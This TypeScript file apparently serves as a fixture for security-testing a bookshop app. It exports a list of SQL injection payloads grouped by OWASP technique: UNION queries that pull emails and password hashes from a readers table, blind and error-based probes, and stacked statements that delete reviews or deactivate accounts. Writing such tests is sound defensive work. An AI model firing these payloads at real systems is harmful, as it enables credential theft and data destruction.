/**
 * Strings with which attackers try to change the SQL behind a field, for SQLite and PostgreSQL. The
 * techniques are those of OWASP's Web Security Testing Guide 4.2, WSTG-INPV-05; the payloads are
 * made for the tables of this shop.
 */
export const SQL_PAYLOADS: readonly string[] = [
  // To end the string, or to break the statement.
  "'",
  "''",
  '"',
  '`',
  "\\'",
  "')",
  "';",
  "' --",
  "' #",
  "'/*",
  '*/ --',
  '\\',
  // To be true for every row.
  "' OR '1'='1",
  "' OR 1=1 --",
  "x' OR 1=1 /*",
  "%' OR '%'='",
  '1 OR 1=1',
  "1' OR '1'='1",
  '0 OR TRUE',
  // To add rows of another table.
  "x' UNION SELECT id, email, password_hash, 1 FROM readers --",
  "x%' UNION ALL SELECT id, username, email, 1 FROM readers /*",
  "x' UNION SELECT email FROM readers --",
  '0 UNION SELECT email, 1, 1 FROM readers',
  '-1 UNION SELECT password_hash, 1, 1 FROM readers WHERE id = 1',
  // To learn a little from yes or no.
  "%' AND (SELECT COUNT(*) FROM readers) > 0 AND '%'='",
  "x' OR (SELECT username FROM readers WHERE id = 1) = 'ada' OR 'x'='y",
  '1 AND (SELECT COUNT(*) FROM readers) > 0',
  '(SELECT COUNT(*) FROM readers)',
  "(CASE WHEN (SELECT username FROM readers WHERE id = 1) = 'ada' THEN books.price_cents ELSE books.id END)",
  // To learn from an error.
  "' AND 1 = CAST((SELECT email FROM readers WHERE id = 1) AS INTEGER) AND '1'='1",
  '1/0',
  // To begin another statement.
  "'; DELETE FROM reviews; --",
  '1; DELETE FROM reviews',
  '1); DELETE FROM reviews; --',
  "x'; UPDATE readers SET is_active = FALSE; --",
  // Placeholders of libraries.
  '$1',
  '$title',
  ':title',
  ':author',
  '?',
  '@p1',
  '{0}',
];
